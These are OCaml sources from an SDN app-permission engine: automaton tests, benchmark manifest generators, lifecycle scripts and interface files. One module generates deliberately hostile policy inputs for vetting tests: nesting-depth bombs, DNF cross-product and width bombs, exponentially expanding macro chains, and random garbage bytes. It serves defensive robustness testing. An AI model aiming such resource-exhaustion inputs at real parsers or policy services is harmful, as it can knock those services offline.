       MAX_PRIORITY 60000) OR (TCP_DST 80 OR TCP_DST 443)\n\
       PERM read_statistics LIMITING FLOW_LEVEL"
  in
  let calls =
    [ Api.Install_flow
        ( 1,
          Flow_mod.add ~priority:100 ~cookie:1
            ~match_:
              (Match_fields.make ~dl_type:Eth_ip
                 ~nw_dst:(Match_fields.exact_ip (ip "10.13.1.2"))
                 ())
            ~actions:[ Action.Output 1 ] () );
      Api.Install_flow
        ( 1,
          Flow_mod.add ~priority:65000 ~cookie:1
            ~match_:(Match_fields.make ~tp_dst:443 ())
            ~actions:[ Action.Output 1 ] () );
      Api.Read_stats (Stats.request Stats.Flow_level);
      Api.Read_stats (Stats.request Stats.Switch_level);
      Api.Read_topology ]
  in
  List.iter
    (fun call ->
      Alcotest.(check bool)
        (Fmt.str "explain %a" Api.pp_call call)
        true (explanations_agree m call))
    calls

(* Property suites ----------------------------------------------------------- *)

let qsuite =
  [ QCheck.Test.make ~count:500
      ~name:"automaton = compiled = interpreted (stateless)"
      (QCheck.pair Test_perm_ops.manifest_arb Test_filters.call_arb)
      (fun (m, call) -> four_way_agree m call);
    QCheck.Test.make ~count:200 ~name:"check_batch = map check"
      (QCheck.pair Test_perm_ops.manifest_arb
         (QCheck.list_of_size (QCheck.Gen.int_range 0 40) Test_filters.call_arb))
      (fun (m, calls) ->
        let calls = Array.of_list calls in
        let a1 = Automaton.of_manifest m and a2 = Automaton.of_manifest m in
        let singles = Array.map (Automaton.check a1) calls in
        let batched = Automaton.check_batch a2 calls in
        Array.length singles = Array.length batched
        && Array.for_all2 same_verdict singles batched
        && Automaton.stats a1 = Automaton.stats a2);
    QCheck.Test.make ~count:300 ~name:"automaton explanations = engine's"
      (QCheck.pair Test_perm_ops.manifest_arb Test_filters.call_arb)
      (fun (m, call) -> explanations_agree m call) ]

let suite =
  [ Alcotest.test_case "automaton allow/deny basics" `Quick test_automaton_basic;
    Alcotest.test_case "hash-consed subtree sharing" `Quick test_subtree_sharing;
    Alcotest.test_case "priority interval fusion" `Quick test_priority_interval;
    Alcotest.test_case "stateful ownership/budget agreement" `Quick
      test_stateful_ownership;
    Alcotest.test_case "cache invalidation on mutation" `Quick
      test_cache_invalidation_rebuild;
    Alcotest.test_case "batch = single on workload trace" `Quick
      test_batch_matches_single_on_trace;
    Alcotest.test_case "explanations match (unit)" `Quick test_explanations_basic ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
