(* Synthetic permission-manifest generator for the permission-engine
   microbenchmark (Figure 5).

   The paper measures checking throughput against three manually
   generated manifests "representing small, medium and large permission
   complexity": 1, 5 and 15 permission tokens, each token associated
   with 10–20 filters.  This module reproduces those shapes
   deterministically (seeded PRNG).

   Construction invariant: each generated filter is
     [core ∧ pad₁ ∧ pad₂ ∧ …]
   where [core] accepts exactly the *conforming* call population (flow
   inserts within 10.0.0.0/8 at priority ≤ 60000; flow/port-level
   statistics reads) and every pad clause is a disjunction containing
   one core-satisfied disjunct plus random singletons.  Pads therefore
   never change the decision — they only add the evaluation work whose
   cost Figure 5 measures — and the companion trace generator can
   produce a precise violation rate by stepping outside the core. *)

open Shield_openflow.Types

type complexity = Small | Medium | Large

let complexity_to_string = function
  | Small -> "small"
  | Medium -> "medium"
  | Large -> "large"

let token_count = function Small -> 1 | Medium -> 5 | Large -> 15

let conforming_subnet = ipv4_of_string "10.0.0.0"
let conforming_mask = ipv4_of_string "255.0.0.0"
let violating_subnet = ipv4_of_string "192.168.0.0"
let max_priority = 60000

(* Random singleton filters used as padding noise. *)
let random_singleton rng : Sdnshield.Filter.singleton =
  let open Sdnshield.Filter in
  match Prng.int rng 8 with
  | 0 ->
    Pred
      { field = F_ip_src;
        value = V_ip (ipv4_of_octets (Prng.int rng 223) (Prng.int rng 255) 0 0);
        mask = Some (prefix_mask (8 + Prng.int rng 17)) }
  | 1 -> Pred { field = F_tcp_dst; value = V_int (Prng.int rng 65536); mask = None }
  | 2 -> Max_priority (30000 + Prng.int rng 30000)
  | 3 -> Max_rule_count (100 + Prng.int rng 1000)
  | 4 -> Wildcard { field = F_ip_src; mask = prefix_mask (Prng.int rng 9) }
  | 5 -> Owner All_flows
  | 6 ->
    Stats_level
      (Prng.pick rng Shield_openflow.Stats.[ Flow_level; Port_level ])
  | _ ->
    Pred
      { field = F_ip_dst;
        value = V_ip (ipv4_of_octets 10 (Prng.int rng 255) 0 0);
        mask = Some (prefix_mask 16) }

(** The core filter that decides conformance for a token. *)
let core_filter (token : Sdnshield.Token.t) : Sdnshield.Filter.expr =
  let open Sdnshield.Filter in
  match token with
  | Sdnshield.Token.Insert_flow | Sdnshield.Token.Delete_flow ->
    conj
      (ip_subnet F_ip_dst conforming_subnet conforming_mask)
      (atom (Max_priority max_priority))
  | Sdnshield.Token.Read_statistics ->
    disj
      (atom (Stats_level Shield_openflow.Stats.Flow_level))
      (atom (Stats_level Shield_openflow.Stats.Port_level))
  | _ -> True

(* A pad clause: (core-satisfied disjunct OR random noise...). *)
let pad_clause rng token : Sdnshield.Filter.expr =
  let open Sdnshield.Filter in
  let anchor =
    match (token : Sdnshield.Token.t) with
    | Sdnshield.Token.Insert_flow | Sdnshield.Token.Delete_flow ->
      ip_subnet F_ip_dst conforming_subnet conforming_mask
    | Sdnshield.Token.Read_statistics ->
      disj
        (atom (Stats_level Shield_openflow.Stats.Flow_level))
        (atom (Stats_level Shield_openflow.Stats.Port_level))
    | _ ->
      (* A concrete always-satisfied atom, NOT [True]: the smart
         constructor would fold [True OR noise] away and the pad would
         add no filters at all. *)
      atom (Owner All_flows)
  in
  let noise = List.init (1 + Prng.int rng 2) (fun _ -> atom (random_singleton rng)) in
  List.fold_left disj anchor noise

(** One permission with [n_filters] singleton filters in total. *)
let permission rng token ~n_filters : Sdnshield.Perm.t =
  let core = core_filter token in
  let core_size = Sdnshield.Filter.fold_atoms (fun n _ -> n + 1) 0 core in
  let rec pad expr count =
    if count >= n_filters then expr
    else
      let clause = pad_clause rng token in
      let size = Sdnshield.Filter.fold_atoms (fun n _ -> n + 1) 0 clause in
      pad (Sdnshield.Filter.conj expr clause) (count + size)
  in
  { Sdnshield.Perm.token; filter = pad core core_size }

(** The token order guarantees the focus tokens come first, so a Small
    (1-token) manifest still covers the benchmarked call type. *)
let token_order ~(focus : [ `Insert | `Stats ]) : Sdnshield.Token.t list =
  let first =
    match focus with
    | `Insert -> [ Sdnshield.Token.Insert_flow; Sdnshield.Token.Read_statistics ]
    | `Stats -> [ Sdnshield.Token.Read_statistics; Sdnshield.Token.Insert_flow ]
  in
  first
  @ List.filter (fun t -> not (List.mem t first)) Sdnshield.Token.all

(** Generate a manifest of the given [complexity]: 1/5/15 tokens with
    10–20 filters each, deterministic in [seed]. *)
let generate ?(seed = 7) ~complexity ~focus () : Sdnshield.Perm.manifest =
  let rng = Prng.of_int seed in
  let tokens = List.filteri (fun i _ -> i < token_count complexity) (token_order ~focus) in
  Sdnshield.Perm.normalize
    (List.map
       (fun token -> permission rng token ~n_filters:(10 + Prng.int rng 11))
       tokens)

(** Total singleton filters in a manifest (reported by the bench). *)
let filter_count (m : Sdnshield.Perm.manifest) =
  List.fold_left
    (fun n (p : Sdnshield.Perm.t) ->
      n + Sdnshield.Filter.fold_atoms (fun k _ -> k + 1) 0 p.Sdnshield.Perm.filter)
    0 m

(* Over-privileged manifest/trace pairs --------------------------------------- *)

(** [over_privileged ?seed ~n ()] — a (manifest, trace) pair where the
    manifest strictly exceeds the least-privilege manifest
    [Infer.of_trace] synthesises from the trace: the insert grant is
    widened to unrestricted where the trace only needs a narrow
    envelope, and one granted token never appears in the trace at
    all.  Feed it to [Lint.lint_manifest ~trace] to exercise the
    over-privilege audit. *)
let over_privileged ?(seed = 17) ~n () :
    Sdnshield.Perm.manifest * Shield_controller.Api.call list =
  let trace =
    Api_trace.generate ~seed ~violation_rate:0. ~focus:`Insert ~n ()
    |> Array.to_list |> List.map fst
  in
  let least = Sdnshield.Infer.of_trace trace in
  let widened =
    List.map
      (fun (p : Sdnshield.Perm.t) ->
        if p.Sdnshield.Perm.token = Sdnshield.Token.Insert_flow then
          { p with Sdnshield.Perm.filter = Sdnshield.Filter.True }
        else p)
      least
  in
  ( Sdnshield.Perm.normalize
      (widened
      @ [ { Sdnshield.Perm.token = Sdnshield.Token.Read_payload;
            filter = Sdnshield.Filter.True } ]),
    trace )
