(* Deterministic adversarial-input generators for admission vetting
   (bench/vetting_lab.ml and test/test_vetting.ml).

   Each generator reproduces one resource-exhaustion family from the
   §III threat model — a malicious or buggy app submitting a manifest
   built to hang, crash or balloon the vetting pipeline:

   - depth bombs: linear chains of NOT / parentheses that overflow a
     naive recursive parser or converter;
   - cross-product bombs: AND of two wide ORs whose DNF has |A|·|B|
     clauses;
   - width bombs: one huge conjunction whose single DNF clause exceeds
     any sane literal count;
   - macro-chain bombs: LET chains where each macro doubles the next,
     2^n nodes from n lines of policy;
   - garbage: plain random bytes for the lexer.

   Everything is seeded ([Prng]) so lab runs and CI failures are
   reproducible.  AST builders use the raw [Filter] constructors on
   purpose: the smart constructors ([Filter.neg] folds NOT NOT, [conj]
   folds constants) would quietly defuse the bombs, and a hostile app
   linking against the typed API is not obliged to use them. *)

(* Source-text bombs --------------------------------------------------------- *)

(** [depth_bomb_src ~depth] — ["PERM insert_flow LIMITING NOT NOT … TRUE"]
    with [depth] NOTs. *)
let depth_bomb_src ~depth =
  let buf = Buffer.create ((4 * depth) + 32) in
  Buffer.add_string buf "PERM insert_flow LIMITING ";
  for _ = 1 to depth do
    Buffer.add_string buf "NOT "
  done;
  Buffer.add_string buf "TRUE";
  Buffer.contents buf

(** [paren_bomb_src ~depth] — the same with [depth] nested parens. *)
let paren_bomb_src ~depth =
  let buf = Buffer.create ((2 * depth) + 32) in
  Buffer.add_string buf "PERM insert_flow LIMITING ";
  for _ = 1 to depth do
    Buffer.add_char buf '('
  done;
  Buffer.add_string buf "TRUE";
  for _ = 1 to depth do
    Buffer.add_char buf ')'
  done;
  Buffer.contents buf

(** [garbage ~seed ~len] — [len] uniformly random bytes. *)
let garbage ~seed ~len =
  let rng = Prng.of_int seed in
  String.init len (fun _ -> Char.chr (Prng.int rng 256))

(** [macro_chain_bomb ~links] — a [(manifest_src, policy_src)] pair
    where the policy binds a doubling LET chain
    [m0 = { m1 AND m1 }; …; m(n-1) = { mn AND mn }] over [links] links
    and the manifest uses [m0]: full expansion is [2^links] nodes from
    [O(links)] bytes of input. *)
let macro_chain_bomb ~links =
  let buf = Buffer.create (links * 32) in
  for i = 0 to links - 1 do
    Buffer.add_string buf
      (Printf.sprintf "LET m%d = { m%d AND m%d }\n" i (i + 1) (i + 1))
  done;
  Buffer.add_string buf
    (Printf.sprintf "LET m%d = { IP_DST 10.0.0.0 MASK 255.0.0.0 }\n" links);
  ("PERM insert_flow LIMITING m0", Buffer.contents buf)

(* AST bombs ----------------------------------------------------------------- *)

(** [ast_depth_bomb ~depth] — [Not (Not (… True))], [depth] deep, built
    iteratively with the raw constructor ([Filter.neg] would fold the
    whole chain to [True]/[Not True]). *)
let ast_depth_bomb ~depth =
  let e = ref Sdnshield.Filter.True in
  for _ = 1 to depth do
    e := Sdnshield.Filter.Not !e
  done;
  !e

(* Distinct atoms so no merge/simplification can shrink the bombs. *)
let port_atom i =
  Sdnshield.Filter.Atom
    (Sdnshield.Filter.Pred
       { field = Sdnshield.Filter.F_tcp_dst;
         value = Sdnshield.Filter.V_int (i land 0xffff);
         mask = None })

(* Balanced tree over atoms [lo..hi] — logarithmic depth, so the bombs
   pass structural depth checks and hit the stage they target. *)
let rec balanced node lo hi =
  if lo = hi then port_atom lo
  else
    let mid = (lo + hi) / 2 in
    node (balanced node lo mid) (balanced node (mid + 1) hi)

let or_tree lo hi = balanced (fun a b -> Sdnshield.Filter.Or (a, b)) lo hi
let and_tree lo hi = balanced (fun a b -> Sdnshield.Filter.And (a, b)) lo hi

(** [cross_bomb ~atoms] — [AND] of two balanced ORs of [atoms] distinct
    atoms each: its DNF has [atoms²] clauses (16.7M for the default
    4096) while the expression itself is only [2·atoms] leaves and
    [O(log atoms)] deep. *)
let cross_bomb ~atoms =
  Sdnshield.Filter.And (or_tree 0 (atoms - 1), or_tree atoms ((2 * atoms) - 1))

(** [width_bomb ~atoms] — a balanced AND of [atoms] distinct atoms: its
    DNF is a single clause of [atoms] literals. *)
let width_bomb ~atoms = and_tree 0 (atoms - 1)

(** Wrap a filter as a one-permission manifest AST. *)
let manifest_of_filter filter =
  [ { Sdnshield.Perm.token = Sdnshield.Token.Insert_flow; filter } ]

(* Random hostile ASTs ------------------------------------------------------- *)

(** [random_hostile_ast rng ~size] — a random expression of roughly
    [size] nodes over the raw constructors (double negations, constant
    subtrees and all), for never-raises property tests.  Recursion
    depth is bounded by [size]; keep it modest (≤ a few thousand). *)
let rec random_hostile_ast rng ~size =
  let n = size in
  (* [Sdnshield.Filter.size] would shadow the parameter past an open. *)
  let open Sdnshield.Filter in
  if n <= 1 then
    match Prng.int rng 4 with
    | 0 -> True
    | 1 -> False
    | 2 -> Atom (Macro (Printf.sprintf "stub%d" (Prng.int rng 4)))
    | _ -> port_atom (Prng.int rng 1024)
  else
    match Prng.int rng 5 with
    | 0 -> Not (random_hostile_ast rng ~size:(n - 1))
    | 1 | 2 ->
      let left = 1 + Prng.int rng (n - 1) in
      And
        ( random_hostile_ast rng ~size:left,
          random_hostile_ast rng ~size:(n - left) )
    | _ ->
      let left = 1 + Prng.int rng (n - 1) in
      Or
        ( random_hostile_ast rng ~size:left,
          random_hostile_ast rng ~size:(n - left) )

(* Lint-dirty corpus ---------------------------------------------------------- *)

(* Parseable, structurally tame sources that are nonetheless full of
   the semantic defects shield-lint (lib/core/lint.ml) hunts:
   unsatisfiable conjunctions, tautologies, shadowed clauses,
   refinements on dimensions the token never carries, dead LET
   bindings, self-MEET/JOIN, overlapping ASSERT EITHER sides.  The
   seed varies the concrete ports/subnets so tests don't pin one
   constant, while the defect inventory is fixed — every manifest
   (resp. policy) rule fires on every seed. *)

(** [lint_dirty_manifest_src ~seed] — a manifest that triggers
    unsatisfiable-filter, vacuous-filter, shadowed-clause and
    redundant-refinement (plus over-privilege excess tokens when
    linted against a trace that only installs flows). *)
let lint_dirty_manifest_src ~seed =
  let rng = Prng.of_int seed in
  let p1 = 1 + Prng.int rng 30_000 in
  let p2 = p1 + 1 + Prng.int rng 30_000 in
  let octet = Prng.int rng 256 in
  Printf.sprintf
    "PERM insert_flow LIMITING TCP_DST %d AND TCP_DST %d\n\
     PERM delete_flow LIMITING OWN_FLOWS OR NOT OWN_FLOWS\n\
     PERM read_flow_table LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0 OR \
     (IP_DST 10.%d.0.0 MASK 255.255.0.0 AND OWN_FLOWS)\n\
     PERM read_statistics LIMITING MAX_PRIORITY %d\n\
     PERM send_pkt_out\n"
    p1 p2 octet
    (100 + Prng.int rng 1000)

(** [lint_dirty_policy_src ~seed] — a policy that triggers
    dead-binding (both a dead perm binding and an unreferenced stub
    macro), self-meet-join and overlapping-exclusive. *)
let lint_dirty_policy_src ~seed =
  let rng = Prng.of_int seed in
  let octet = 1 + Prng.int rng 254 in
  Printf.sprintf
    "LET unused = { PERM read_payload }\n\
     LET ghost_macro = { IP_DST 192.168.%d.0 MASK 255.255.255.0 }\n\
     LET a = { PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0 }\n\
     LET b = { PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK 255.255.0.0 }\n\
     ASSERT a MEET a <= b\n\
     ASSERT EITHER a OR b\n"
    octet
    (Prng.int rng 256)

(* Assertion-heavy policies -------------------------------------------------

   Work for shield-verify: every comparison direction (including the
   strict ones, whose strictness needs a synthesized witness), nested
   AND/OR/NOT combinations, an exclusivity constraint, and one
   deliberately unbound variable (verification must classify that
   statement Unknown via the Policy_error path, not raise).  The seed
   varies subnets/ports/priorities so no constant gets pinned. *)

(** [assertion_heavy ~seed] — a [(manifest_src, policy_src)] pair whose
    policy is dense in ASSERT obligations of every shape.  [verify]
    must terminate with a certificate (any verdict) and never raise. *)
let assertion_heavy ~seed =
  let rng = Prng.of_int seed in
  let octet = 1 + Prng.int rng 254 in
  let prio = 1_000 + Prng.int rng 30_000 in
  let port = 1 + Prng.int rng 60_000 in
  let manifest_src =
    Printf.sprintf
      "PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK 255.255.0.0 AND \
       MAX_PRIORITY %d\n\
       PERM read_statistics LIMITING FLOW_LEVEL\n\
       PERM send_pkt_out LIMITING TCP_DST %d\n\
       PERM pkt_in_event\n"
      octet prio port
  in
  let policy_src =
    Printf.sprintf
      "LET app_v = APP app\n\
       LET wide = { PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0 }\n\
       LET narrow = { PERM insert_flow LIMITING IP_DST 10.%d.0.0 MASK \
       255.255.0.0 AND MAX_PRIORITY %d }\n\
       ASSERT app_v <= wide\n\
       ASSERT narrow < wide\n\
       ASSERT wide > narrow\n\
       ASSERT wide >= narrow AND narrow <= wide\n\
       ASSERT wide = wide OR narrow < narrow\n\
       ASSERT NOT (wide < narrow)\n\
       ASSERT NOT (NOT (narrow <= wide)) AND (app_v <= wide OR app_v <= narrow)\n\
       ASSERT phantom <= wide\n\
       ASSERT EITHER { PERM read_statistics } OR { PERM modify_topology }\n"
      octet prio
  in
  (manifest_src, policy_src)
