(* Seeded app-market lifecycle scripts (docs/CHURN.md).

   The market lab needs reproducible churn: long install / upgrade /
   revoke sequences over a pool of apps, with manifests drawn from the
   paper-shaped generator ([Perm_gen]) and a controllable fraction of
   requests that must be refused (wrong lifecycle state, or a manifest
   the vetting pipeline rejects).  Each entry carries the generator's
   own model of whether it should commit, so a harness can check the
   engine's commit/rollback ledger against ground truth: with no fault
   injection armed, [valid] entries commit and invalid ones roll back
   — exactly, no slack. *)

open Shield_controller

type entry = {
  request : Market.request;
  valid : bool;
      (** The request is well-formed against the script's model state:
          an install of an absent app with a vettable manifest, or an
          upgrade/revoke of a live one.  Invalid entries target the
          wrong lifecycle state or carry a manifest vetting rejects. *)
}

let app_name i = Printf.sprintf "app-%03d" i

let manifest_src rng ~complexity =
  let seed = Prng.int rng 1_000_000 in
  let focus = if Prng.bool rng then `Insert else `Stats in
  Sdnshield.Perm.to_string (Perm_gen.generate ~seed ~complexity ~focus ())

(** [script ~length ()] — a deterministic lifecycle script of [length]
    requests over a pool of [apps] app names.  [invalid_fraction]
    (default 0) of the requests are built to roll back; [complexity]
    sizes the generated manifests (paper's Small/Medium/Large). *)
let script ?(seed = 11) ?(apps = 100) ?(invalid_fraction = 0.)
    ?(complexity = Perm_gen.Small) ~length () : entry list =
  let apps = max 1 apps in
  let rng = Prng.of_int seed in
  let live = Hashtbl.create apps in
  let pick_app pred =
    (* Uniform-ish pick of an app name satisfying [pred]; linear probe
       from a random start so the scan stays bounded. *)
    let start = Prng.int rng apps in
    let rec go i =
      if i = apps then None
      else
        let name = app_name ((start + i) mod apps) in
        if pred name then Some name else go (i + 1)
    in
    go 0
  in
  let pick_live () = pick_app (Hashtbl.mem live) in
  let pick_absent () = pick_app (fun n -> not (Hashtbl.mem live n)) in
  let invalid_per_mille =
    int_of_float (invalid_fraction *. 1000. +. 0.5)
  in
  let valid_entry () =
    match
      (pick_absent (), pick_live (), Prng.int rng 4)
    with
    (* Bias toward installs while the pool fills, upgrades at steady
       state; revokes keep the pool turning over. *)
    | Some absent, _, (0 | 1) ->
      Hashtbl.replace live absent ();
      { request = Market.install absent (manifest_src rng ~complexity);
        valid = true }
    | _, Some name, (0 | 1 | 2) ->
      { request = Market.upgrade name (manifest_src rng ~complexity);
        valid = true }
    | _, Some name, _ ->
      Hashtbl.remove live name;
      { request = Market.revoke name; valid = true }
    | Some absent, None, _ ->
      Hashtbl.replace live absent ();
      { request = Market.install absent (manifest_src rng ~complexity);
        valid = true }
    | None, None, _ -> assert false (* pool is nonempty *)
  in
  let invalid_entry () =
    (* Invalid requests never change the model state. *)
    match (Prng.int rng 3, pick_live (), pick_absent ()) with
    | 0, Some name, _ ->
      { request = Market.install name (manifest_src rng ~complexity);
        valid = false (* install of a live app *) }
    | 1, _, Some name ->
      { request = Market.upgrade name (manifest_src rng ~complexity);
        valid = false (* upgrade of an absent app *) }
    | 2, _, Some name ->
      { request = Market.revoke name; valid = false }
    | _, _, _ ->
      (* Fallback when the preferred lifecycle mismatch is unavailable
         (empty or full pool): a manifest vetting refuses at parse. *)
      { request =
          Market.install
            (app_name (Prng.int rng apps))
            "PERM frobnicate_the_dataplane";
        valid = false }
  in
  List.init length (fun _ ->
      if Prng.int rng 1000 < invalid_per_mille then invalid_entry ()
      else valid_entry ())

let expected_commits entries =
  List.length (List.filter (fun e -> e.valid) entries)

let requests entries = List.map (fun e -> e.request) entries
