(** Shared check-path plumbing: the call→token mapping and the
    ownership-backed evaluation environment used by every checker on
    the permission hot path ({!Engine}, {!Compiled}, {!Automaton}).

    Factored out of {!Engine} so the compiled checkers can dispatch on
    tokens without depending on the interpreting engine (and so the
    engine can, in turn, delegate its evaluation to them without a
    dependency cycle).  See docs/ARCHITECTURE.md for the layer map. *)

open Shield_controller

val token_of_call : Api.call -> Token.t option
(** Which permission token a call requires.  [None] = no permission
    needed (inter-app publications and their receipt are governed by
    subscription, not tokens). *)

val token_index_of_call : Api.call -> int
(** [Token.index]-encoded {!token_of_call} for hot paths: the index of
    the required token, or [-1] when no permission is needed.
    Allocation-free (the option above is a statically-allocated [Some],
    but an index slots straight into token-indexed dispatch arrays). *)

val token_of_index : int -> Token.t
(** Inverse of {!Token.index}.  Raises [Invalid_argument] outside
    [0, Token.count). *)

val is_stateful_call : Api.call -> bool
(** Does checking this call read or write the ownership store when
    approved?  (Flow-mods: the engine records approved ones and the
    OWN_FLOWS / MAX_RULE_COUNT filters read existing state.) *)

val env_of_ownership : ownership:Ownership.t -> cookie:int -> Filter_eval.env
(** The evaluation environment answering the stateful filter dimensions
    (OWN_FLOWS, MAX_RULE_COUNT) from a shared {!Ownership} store on
    behalf of the app identified by [cookie]. *)
