(** Flat decision automaton for the permission hot path.

    Where {!Engine} interprets the filter AST per call and {!Compiled}
    applies a closure tree, this module compiles each admitted,
    reconciled manifest down to a {e flat decision DAG}:

    - {b perfect-hashed token dispatch} — the manifest becomes a root
      table indexed by {!Token.index} (the token enumeration's dense,
      collision-free index), so finding the filter for a call is one
      array load;
    - {b branching-program filters} — each filter expression compiles
      to binary-decision nodes [(test, on-true, on-false)] stored in
      flat parallel arrays; evaluation is an index-chasing loop with
      no closure application and no AST dispatch;
    - {b interval structures for range singletons} — conjunctions of
      [MAX_PRIORITY]/[MIN_PRIORITY] atoms fuse into a single closed
      interval test, conjunctions of [MAX_RULE_COUNT] atoms into one
      budget bound, and disjunctions of same-field integer predicates
      (e.g. port lists) into one sorted-membership test;
    - {b hash-consed shared subtrees} — structurally identical nodes
      are deduplicated across all filters and all permissions of the
      manifest, so repeated policy fragments occupy (and warm) the
      same memory;
    - {b path-sensitive construction} — while compiling a clause
      chain, the tests already decided on the current path are
      threaded as a context, so a predicate the source filter repeats
      (the common "every clause re-states the subnet" idiom) is tested
      once on the compiled path and resolved immediately at every
      later occurrence; a step budget falls back to the linear
      construction for filters where this would blow up;
    - {b direct attribute projection} — evaluation reads header fields
      straight off the call's match record as unboxed integer
      compares, instead of building an attribute record and
      re-projecting (with allocation) at every predicate atom as the
      interpreted and closure-compiled paths do.

    {!check} shares no mutable evaluation state between calls (each
    governed call gets one small immutable context record), so any
    number of threads may check against one automaton concurrently;
    the [stats] counters are plain increments and best-effort under
    races, as in {!Engine}.

    Decisions are bit-for-bit those of {!Filter_eval.eval} under the
    same environment (property-tested in [test/test_automaton.ml]);
    deny messages match {!Engine}'s.  Construction cost is accounted
    to the ambient {!Budget} (one tick per DAG node), so {!Vetting}
    can build the automaton at admission time under the same
    fail-closed resource discipline as parsing and reconciliation.

    Stateful atoms ([OWN_FLOWS], [MAX_RULE_COUNT]) are evaluated live
    through [env] on every visit — the DAG itself never goes stale
    when the ownership store mutates.  Only the optional fronting
    {!Decision_cache} memoizes stateful decisions, and it is
    generation-gated on {!Ownership.generation} exactly as in the
    other checkers (docs/CACHING.md); pass [generation] when [env]
    reads mutable state.

    See docs/AUTOMATON.md for construction details, batch semantics,
    and measured comparisons against the other checkers. *)

type t

val of_manifest :
  ?env:Filter_eval.env ->
  ?cache_size:int ->
  ?generation:(unit -> int) ->
  Perm.manifest ->
  t
(** Compile [manifest] once into a decision DAG.  [env] supplies the
    stateful dimensions (defaults to {!Filter_eval.pure_env} for
    stateless checking).  [cache_size] fronts the DAG with a
    {!Decision_cache}; [generation] must then be the mutation counter
    of the state behind [env] (normally
    [fun () -> Ownership.generation store]) — its constant default is
    sound only for the pure environment.  Ticks the ambient {!Budget}
    once per constructed node; callers admitting untrusted manifests
    should run it inside {!Budget.with_scope} (as {!Vetting} does). *)

val check : t -> Shield_controller.Api.call -> Shield_controller.Api.decision
(** Decide one call: token-indexed root lookup, then one DAG walk
    (memoized when a decision cache is attached).  Deny messages match
    {!Engine.check}'s ("missing permission …", "permission filter
    rejects call: …") and are preallocated per token — the deny path
    does not build strings. *)

val check_batch :
  t ->
  Shield_controller.Api.call array ->
  Shield_controller.Api.decision array
(** Decide a burst of calls (packet-in storms, replayed traces) in one
    go.  Verdicts, order, and check/denial counters are exactly those
    of calling {!check} on each element; the batch hoists the per-call
    dispatch and counter bookkeeping out of the loop and coalesces
    physically equal adjacent calls (storms repeat the same boxed
    event) into one evaluation.  Each call is still decided against the live
    environment at its own position — a batch is not a snapshot or a
    transaction (for all-or-nothing groups use
    {!Engine.check_transaction}). *)

val eval_token : t -> Token.t -> Attrs.t -> bool
(** Evaluate the compiled filter for [token] against pre-extracted
    attributes; [false] when the token is not granted.  This is the
    hook {!Engine} plugs into its per-token evaluator slots when
    created with [~strategy:`Automaton], and the [eval] callback handed
    to a fronting {!Decision_cache} — it bypasses token dispatch,
    caching, and counters. *)

val check_explained :
  t ->
  Shield_controller.Api.call ->
  Shield_controller.Api.decision * Shield_controller.Api.check_info
(** {!check} with provenance: the identical decision plus the cache
    outcome and the deciding top-level clause.  Unlike {!Compiled},
    the automaton does not re-interpret the source filter to explain
    itself: every DAG leaf records which top-level clause it decides,
    so the walk that produced the verdict also names the clause.  The
    rendered account matches {!Filter_eval.explain}'s wording
    (property-tested). *)

val granted : t -> Token.t -> bool
(** Is a root compiled for [token]? *)

(** Construction-time shape of the DAG, for budget reports and the
    bench tables. *)
type build_stats = {
  nodes : int;  (** Decision nodes in the flat store (after sharing). *)
  shared : int;
      (** Hash-consing hits: nodes requested again and served from the
          store instead of allocated. *)
  collapsed : int;
      (** Redundant tests elided because both branches led to the same
          successor. *)
  tokens : int;  (** Tokens with a compiled root. *)
}

val build_stats : t -> build_stats

val stats : t -> int * int
(** [(checks, denials)] so far, as {!Engine.stats}. *)

val cache_stats : t -> Shield_controller.Metrics.cache_stats option
(** Fronting decision-cache counters; [None] without [cache_size]. *)
