(** Permission filters (§IV-B): fine-grained refinements of permission
    tokens.

    A {e singleton} filter inspects exactly one attribute dimension of
    an API call; singletons compose into expressions with AND / OR /
    NOT.  [Macro] atoms are developer stubs the administrator binds
    during reconciliation (§V-A permission customization). *)

open Shield_openflow.Types

(** Header fields predicate and wildcard filters can inspect. *)
type field =
  | F_ip_src
  | F_ip_dst
  | F_tcp_src
  | F_tcp_dst
  | F_eth_src
  | F_eth_dst
  | F_in_port
  | F_eth_type
  | F_ip_proto
  | F_vlan

val field_to_string : field -> string
val field_of_string : string -> field option
val is_ip_field : field -> bool

(** Field values: IPv4 fields carry 32-bit values (and masks); all
    other fields are plain integers. *)
type value = V_ip of ipv4 | V_int of int

val pp_value : Format.formatter -> value -> unit

(** Action classes for the action filter. *)
type action_kind =
  | A_drop  (** Rule actions must be empty. *)
  | A_forward  (** Output/flood only — no rewrites. *)
  | A_modify of field  (** May rewrite [field] (and forward). *)

type ownership = Own_flows | All_flows
type pkt_out_kind = From_pkt_in | Arbitrary

module Int_set : Set.S with type elt = int

type phys_topo = {
  switches : Int_set.t;
  links : Int_set.t;  (** Link indexes; empty = all links among switches. *)
}

type virt_topo =
  | Single_big_switch
      (** All visible switches presented as one big switch (the paper's
          [VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS]). *)
  | Switch_groups of (Int_set.t * int) list
      (** Explicit grouping: physical-switch set AS virtual dpid. *)

type callback_kind = Event_interception | Modify_event_order

type singleton =
  | Pred of { field : field; value : value; mask : ipv4 option }
      (** Predicate filter: the call's [field] must be narrower than
          the given value/range. *)
  | Wildcard of { field : field; mask : ipv4 }
      (** Wildcard filter: the mask bits must stay wildcarded in issued
          rules. *)
  | Action_f of action_kind
  | Owner of ownership
  | Max_priority of int
  | Min_priority of int
  | Max_rule_count of int
  | Pkt_out of pkt_out_kind
  | Phys_topo of phys_topo
  | Virt_topo of virt_topo
  | Callback of callback_kind
  | Stats_level of Shield_openflow.Stats.level
  | Macro of string  (** Unexpanded administrator stub. *)

type expr =
  | True
  | False
  | Atom of singleton
  | And of expr * expr
  | Or of expr * expr
  | Not of expr

(** {1 Smart constructors}

    [conj]/[disj]/[neg] fold constants ([conj True e = e], …) and are
    semantics-preserving (property-tested). *)

val atom : singleton -> expr
val conj : expr -> expr -> expr
val disj : expr -> expr -> expr
val neg : expr -> expr

val conj_list : expr list -> expr
(** Conjunction of a list; [True] when empty. *)

val disj_list : expr list -> expr
(** Disjunction of a list; [False] when empty. *)

val ip_subnet : field -> ipv4 -> ipv4 -> expr
(** [ip_subnet f addr mask] — predicate filter [f addr MASK mask]. *)

